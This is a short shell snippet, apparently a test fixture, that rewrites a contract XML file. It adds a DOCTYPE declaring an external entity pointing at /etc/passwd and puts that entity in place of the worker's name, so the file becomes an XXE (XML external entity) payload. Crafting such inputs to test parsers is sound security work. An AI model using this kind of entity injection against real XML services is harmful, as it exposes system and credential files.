# An external entity naming a local file, used in the worker's name.
{ sed -n 1p "$CONTRACT_XML"; echo '<!DOCTYPE contract [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
  sed -e 1d -e 's/<name>陈志强</<name>\&x;</' "$CONTRACT_XML"; } >"$OUT"
